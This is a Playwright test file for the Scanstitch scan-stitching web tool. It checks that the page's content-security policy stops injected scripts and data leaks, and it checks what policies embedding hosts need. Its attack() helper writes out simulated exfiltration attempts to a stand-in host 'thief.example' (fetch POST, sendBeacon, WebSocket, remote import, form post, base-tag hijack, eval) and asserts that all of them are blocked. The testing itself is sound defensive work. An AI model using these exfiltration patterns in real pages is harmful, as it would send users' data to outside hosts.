/** The promise that nothing leaves the machine, kept by the page's content-security policy, and what an embedding page's must allow. */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import type { ScanstitchElement } from '../../npm/element.js';
import { COURSE, expect, listen, scans, test as course_test } from './course_page.js';
import { expect as expected, ScanstitchPage, test, TOOL_RESULTS } from './scanstitch_page.js';
import { test as spatial_test } from './spatial_page.js';
import { recording } from './spatial_recording.js';

/** What the browser was kept from: the directive, and the address or "inline" or "eval". */
interface Violation {
  directive: string;
  blocked: string;
}

declare global {
  interface Window {
    violations: Violation[];
  }
}

function record(): void {
  window.violations = [];
  addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
    window.violations.push({ directive: effectiveDirective, blocked: blockedURI }),
  );
}

/** Everything by which a script that got into the page could act or carry data away; the names of those that worked. */
async function attack(): Promise<string[]> {
  // What the debugger evaluates may evaluate, too; what comes after it may not.
  await new Promise((resolve) => setTimeout(resolve));
  const worked: string[] = [];
  const foreign = 'http://thief.example/';
  const mark = (name: string): string => `document.documentElement.dataset.${name} = 'done'`;
  const loads = (element: HTMLElement): Promise<void> =>
    new Promise((resolve) => {
      element.addEventListener('load', () => (worked.push(element.localName), resolve()));
      element.addEventListener('error', () => resolve());
      document.body.append(element);
    });
  const make = (name: string, attributes: Record<string, string>): HTMLElement => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    return element;
  };

  const script = make('script', {});
  script.textContent = mark('inline');
  document.body.append(script);
  document.body.append(make('div', { onclick: mark('handler'), id: 'handler' }));
  document.getElementById('handler')?.click();
  const evaluate = [() => (0, eval)('1'), () => new Function('return 1')(), () => setTimeout(mark('timer'))];
  evaluate.forEach((act, i) => {
    try {
      if (act() === 1) worked.push(`eval ${i}`);
    } catch {
      // As it should be.
    }
  });
  await loads(make('script', { src: `${foreign}a.js` }));
  await loads(make('script', { src: `data:text/javascript,${mark('data')}` }));
  await loads(make('script', { src: URL.createObjectURL(new Blob([mark('blob')])) }));
  await loads(make('link', { rel: 'stylesheet', href: `${foreign}a.css` }));
  await loads(make('img', { src: `${foreign}a.png` }));
  await loads(make('audio', { src: `${foreign}a.mp3` }));
  for (const [name, carry] of Object.entries({
    fetch: () => fetch(foreign, { method: 'POST', body: 'a scan', mode: 'no-cors' }),
    import: () => import(`${foreign}a.js`),
    socket: () => new Promise((resolve, reject) => Object.assign(new WebSocket('ws://thief.example'), { onopen: resolve, onerror: reject })), // prettier-ignore
    events: () => new Promise((resolve, reject) => Object.assign(new EventSource(foreign), { onopen: resolve, onerror: reject })), // prettier-ignore
    worker: () => new Promise((resolve, reject) => Object.assign(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), { onmessage: resolve, onerror: reject })), // prettier-ignore
  })) {
    await carry().then(
      () => worked.push(name),
      () => undefined,
    );
  }
  navigator.sendBeacon(foreign, 'a scan');
  document.head.append(make('base', { href: foreign }));
  if (document.baseURI.startsWith(foreign)) worked.push('base');
  document.body.append(make('iframe', { src: foreign }), make('object', { data: foreign }));
  const form = make('form', { action: foreign, method: 'post', target: '_self' }) as HTMLFormElement;
  document.body.append(form);
  form.submit();
  await new Promise((resolve) => setTimeout(resolve));
  return [...worked, ...Object.keys(document.documentElement.dataset)];
}

test('whatever gets into the page can neither run nor carry anything away', async ({ app, page }) => {
  const asked: string[] = [];
  await page.context().route('http://thief.example/**', (route) => {
    asked.push(`${route.request().method()} ${route.request().url()}`);
    return route.fulfill({ status: 200, headers: { 'access-control-allow-origin': '*' }, body: '1' });
  });
  await page.evaluate(record);
  expected(await page.evaluate(attack)).toEqual([]);
  const directives = (): Promise<string[]> =>
    page.evaluate(() => [...new Set(window.violations.map(({ directive }) => directive))].sort());
  await expected
    .poll(directives)
    .toEqual([
      'base-uri',
      'connect-src',
      'form-action',
      'frame-src',
      'img-src',
      'media-src',
      'object-src',
      'script-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-elem',
      'worker-src',
    ]);
  expected(asked).toEqual([]);
  expected(await app.scanNames()).toHaveLength(10);
});

const violations = (page: Page): Promise<Violation[]> => page.evaluate(() => window.violations);

test('no tool of the page needs more than its policy allows', async ({ page }) => {
  await page.addInitScript(record);
  await new ScanstitchPage(page).open();
  const tools = page.getByRole('navigation', { name: 'Tools' });
  for (const [tool, element, result] of TOOL_RESULTS) {
    await tools.getByRole('button', { name: tool }).click();
    await expected(page.locator(element)).toContainText(result);
  }
  expected(await violations(page)).toEqual([]);
});

spatial_test('nor does a run in space', async ({ spatial, page }) => {
  await page.evaluate(record);
  await spatial.drop(recording(3));
  expected((await spatial.stitched()).result.frames).toHaveLength(3);
  expected(await violations(page)).toEqual([]);
});

/** What a host's policy must allow where Scanstitch lies on another host, as docs/embedding.md says. */
const needed = (origin: string): Record<string, string> => ({
  'script-src': `${origin} 'wasm-unsafe-eval'`,
  'worker-src': `blob: ${origin}`,
  'connect-src': `'self' ${origin}`,
  'style-src': `'unsafe-inline'`,
  'img-src': 'data: blob:',
});

const E57 = join(import.meta.dirname, '../../../shared/data/reports/e57/tiny_spherical.e57');
const ONE_FILE = join(import.meta.dirname, '../../www/dist/standalone/scanstitch-app.js');

/** A course page with a policy of its own. `script`: an address, or the element in one file beside the page. */
async function openUnder(page: Page, policy: Record<string, string>, script: string): Promise<void> {
  const words = Object.entries({ 'default-src': `'none'`, ...policy }).map((parts) => parts.join(' '));
  const files = scans(3);
  await page.context().route(`${COURSE}**`, (route) => {
    const name = new URL(route.request().url()).pathname.slice('/lesson/'.length);
    if (name === script) return route.fulfill({ contentType: 'text/javascript', path: ONE_FILE });
    if (name !== '') return route.fulfill(files[name] ? { body: files[name] } : { status: 404 });
    const body = `<!doctype html><title>Lesson</title><scanstitch-app src="0.ply 1.ply 2.ply"></scanstitch-app><script type="module" src="${script}"></script>`;
    return route.fulfill({ contentType: 'text/html', headers: { 'content-security-policy': words.join('; ') }, body });
  });
  await page.addInitScript(record);
  await page.addInitScript(listen);
  await page.goto(COURSE);
}

course_test('a host with the policy of the documentation embeds it, and nothing is in the way', async ({ course }) => {
  const { page, baseURL } = course;
  await openUnder(page, needed(new URL(baseURL).origin), `${baseURL}scanstitch-app.js`);
  expect((await course.heard('scanstitch-done')).detail.result.frames).toHaveLength(3);
  expect(await violations(page)).toEqual([]);
});

course_test('the element in one file beside the page needs less', async ({ course }) => {
  const { page } = course;
  const policy = {
    ...needed(''),
    'script-src': `'self' 'wasm-unsafe-eval'`,
    'worker-src': 'blob:',
    'connect-src': `'self'`,
  };
  await openUnder(page, policy, 'scanstitch-app.js');
  expect((await course.heard('scanstitch-done')).detail.result.frames).toHaveLength(3);
  // What unpacks E57 and LAZ is within it.
  if (existsSync(E57)) {
    const frames = await course.element.evaluate(
      async (element: ScanstitchElement, base64) => {
        const bytes = Uint8Array.from(atob(base64), (character) => character.charCodeAt(0));
        await element.open([new File([bytes], 'tiny.e57')]);
        return (await element.run()).result.frames.length;
      },
      readFileSync(E57, 'base64'),
    );
    expect(frames).toBe(1);
  }
  expect(await violations(page)).toEqual([]);
});

for (const [directive, without, told] of [
  ['script-src', `'wasm-unsafe-eval'`, /The engine could not be started.*(wasm|WebAssembly|Content Security Policy)/i],
  ['worker-src', 'blob:', /The engine could not be started/],
  ['worker-src', 'ORIGIN', /The engine could not be started/],
  ['connect-src', 'ORIGIN', /The engine could not be started/],
  ['connect-src', `'self'`, /could not be fetched|Nothing was opened/],
] as const) {
  course_test(`a host whose ${directive} lacks ${without}: told in the element`, async ({ course }) => {
    const { page, baseURL } = course;
    const { origin } = new URL(baseURL);
    const policy = needed(origin);
    policy[directive] = (policy[directive] ?? '').replace(without.replace('ORIGIN', origin), '').trim() || `'none'`;
    await openUnder(page, policy, `${baseURL}scanstitch-app.js`);
    await expect(course.messages).toContainText(told);
  });
}
